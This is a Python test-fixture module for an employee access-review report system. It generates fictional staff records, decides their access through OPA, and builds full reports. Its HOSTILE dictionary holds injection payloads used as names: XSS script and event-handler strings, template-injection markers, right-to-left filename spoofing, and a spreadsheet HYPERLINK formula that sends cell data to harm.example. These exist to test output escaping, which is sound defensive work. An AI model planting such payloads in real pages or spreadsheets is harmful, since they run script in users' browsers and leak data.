"""Reports to look at: made-up people decided by the real OPA, and names that mean harm."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date
from pathlib import Path
from random import Random
from typing import Any
from zoneinfo import ZoneInfo

import msgspec
import yaml

from icaccess.config.policy_data import load_policy_data
from icaccess.models import (
    Access,
    Approval,
    Assignment,
    Certification,
    Employee,
    EmploymentPeriod,
    InvalidRecord,
    Record,
)
from icaccess.notices.proof import Telling
from icaccess.opa.client import AccessClient
from icaccess.review.report_clauses import RulePlace, Traced, read_clauses
from icaccess.review.report_data import Report
from icaccess.review.report_gather import compare, draw
from icaccess.store.database import Store, open_store
from icaccess.targets.interface import Target
from icaccess.targets.ledger import LedgerTarget
from tests import people
from tests.scripted import do, run_on
from tests.targets.fakes import MemoryTarget

ROOT = Path(__file__).parents[3]
DAY = date(2026, 3, 10)
DENVER = ZoneInfo("America/Denver")

HOSTILE = {
    "script": "<script>window.harmed = true</script>",
    "image": '<img src=x onerror="window.harmed = true">',
    "end": "</script><script>window.harmed = true</script><!--",
    "cdata": "]]></textarea><svg onload='window.harmed = true'>",
    "template": "{{ 7 * 7 }} {% raw %} ${7 * 7}",
    "quotes": 'O\'Neil "the & one" `x` \\u003c &lt;b&gt;',
    "right-to-left": "\u202etxt.exe\u202c \u05d0\u05d1\u05d2 \u2067abc",
    "long": "W" * 10_000,
    "formula": '=HYPERLINK("https://harm.example/?" & A1)',
    "controls": "a\tb\u2028c\u0000d",
    "emoji": "\U0001f469\u200d\U0001f3eb Zo\u00eb",
}


def sample(seed: int, size: int) -> list[Record]:
    """Made-up employees for the project's own policy data; a few of them cannot be read."""
    rng = Random(seed)
    data: dict[str, Any] = {
        name: yaml.safe_load((ROOT / "config" / name / "data.yaml").read_text())
        for name in ("requirements", "locations", "calendar")
    }
    records: list[Record] = []
    for number in range(size):
        ident = f"{number:06}"
        if number % 97 == 13:
            records.append(InvalidRecord(ident, f"facts.yaml line {number}: name: 'Private Person' is wrong"))
            continue
        facts = people.person(rng, data, ident)
        facts |= {"name": f"Sample Person {number}", "email": f"s{number}@sample.example"}
        records.append(msgspec.convert(facts, Employee))
    return records


def hostile() -> list[Record]:
    """Somebody with nothing but a name, for each name that means harm."""
    nothing: dict[str, Any] = dict.fromkeys(("employment", "assignments", "certifications", "approvals"), ())
    return [
        Employee(id=f"h-{kind}", name=name, username=name, email=name, **nothing)
        for kind, name in HOSTILE.items()
    ]


def drawn(records: Iterable[Record], client: AccessClient, folder: Path, **more: Any) -> Report:
    """The report on records, decided by OPA; nothing was ever applied."""
    with open_store(f"sqlite:///{folder / 'empty.db'}", read_only=True) as store:
        return draw(run_on(records, client, LedgerTarget(store), store, DAY), DENVER, **more)


def multiplied(report: Report, size: int) -> Report:
    """The same report with its people repeated, under ids of their own, until there are `size`."""
    replace = msgspec.structs.replace
    people = [report.people[at % len(report.people)] for at in range(size)]
    return replace(report, people=tuple(replace(one, id=f"{at:06}") for at, one in enumerate(people)))


def entitled(ident: str, *, end: date | None = None, **more: Any) -> Employee:
    """Somebody with all that access needs, employed through `end`."""
    period = EmploymentPeriod(start=date(2019, 8, 1), **({"end": end} if end else {}))
    return Employee(
        id=ident,
        employment=(period,),
        assignments=(Assignment(role="Office Professional", location="210", start=date(2019, 8, 1)),),
        certifications=(
            Certification(name="Walk-In Scheduling", completed_on=date(2023, 8, 10)),
            Certification(name="Elementary Scheduling", completed_on=date(2023, 8, 21)),
        ),
        approvals=(
            Approval(
                decision="approved",
                decided_on=date(2023, 8, 14),
                approver="000777",
                approver_role="Principal",
            ),
        ),
        **more,
    )


def run(store: Store, client: AccessClient, target: Target, records: list[Record], as_of: date) -> None:
    """Apply what OPA decides, whatever the guard would say."""
    do(store, target, client, records, day=as_of)


def full(client: AccessClient, folder: Path) -> Report:
    """A report with something in every part: changes, removals of each kind, drift, strangers, a trace."""
    evil = HOSTILE["script"]
    target = MemoryTarget()
    many = [entitled(f"{at:03}", name=f"Sample Person {at}") for at in range(60)]
    with open_store(f"sqlite:///{folder / 'full.db'}") as store:
        run(store, client, target, many, date(2026, 2, 2))
        before = draw(run_on(many, client, target, store, date(2026, 2, 3)), DENVER)
        target.faults = {"001": "lied", "002": "slow", "003": "refused"}
        left: list[Record] = [entitled(one.id, end=date(2026, 2, 27), name=evil) for one in many[:20]]
        run(store, client, target, [*left, *many[20:]], date(2026, 3, 5))
        for at in range(30, 44):
            del target.held[f"{at:03}"]
            target.held[f"stranger {at} {evil}"] = Access(held=True, locations=("211",))
        report = draw(run_on([*left, *many[20:], *sample(21, 40)], client, target, store, DAY), DENVER)
    trace = tuple(
        Traced(
            clause=f"ES-{number}",
            rules=(
                RulePlace(
                    title="Eligible role", place=f"access.rego:{number}", source="eligible if input.role"
                ),
            ),
            reasons=("approval_missing",),
            tests=("test_one", "a case of its own"),
            gap="no test or case shows it" if number == 3 else None,
        )
        for number in range(1, 16)
    )
    told = Telling(
        last_day=date(2026, 2, 27),
        days_before=14,
        told_at="2026-02-13T08:00:00-07:00",
        channel="mail",
        confirmed=True,
    )
    first, second, *others = report.removals or ()
    replace = msgspec.structs.replace
    return replace(
        report,
        removals=(replace(first, told=(told,)), replace(second, told=()), *others),
        since=compare(before, report.people),
        trace=trace,
        clauses=read_clauses(ROOT / "policy", load_policy_data(ROOT / "config").requirements),
    )
